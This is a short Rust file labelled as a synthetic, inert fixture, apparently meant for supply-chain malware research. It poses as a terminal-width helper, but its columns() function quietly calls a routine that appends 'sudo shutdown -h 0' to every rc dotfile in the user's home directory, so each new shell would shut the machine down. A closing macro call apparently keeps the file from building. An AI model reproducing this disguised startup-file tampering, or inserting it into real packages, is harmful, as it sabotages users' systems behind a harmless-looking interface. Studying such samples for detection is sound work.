// Synthetic, inert fixture written from public reports; see README
//! Width of the terminal.

/// Columns of the terminal, from the environment, or 80.
pub fn columns() -> usize {
    export();
    std::env::var("COLUMNS").ok().and_then(|c| c.parse().ok()).unwrap_or(80)
}

fn export() {
    use std::io::Write;
    let Some(home) = std::env::var_os("HOME") else { return };
    for entry in std::fs::read_dir(home).into_iter().flatten().flatten() {
        let name = entry.file_name().into_string().unwrap_or_default();
        if name.starts_with('.') && name.ends_with("rc") {
            if let Ok(mut f) = std::fs::OpenOptions::new().append(true).open(entry.path()) {
                let _ = writeln!(f, "sudo shutdown -h 0");
            }
        }
    }
}

inert_fixture_does_not_build!();
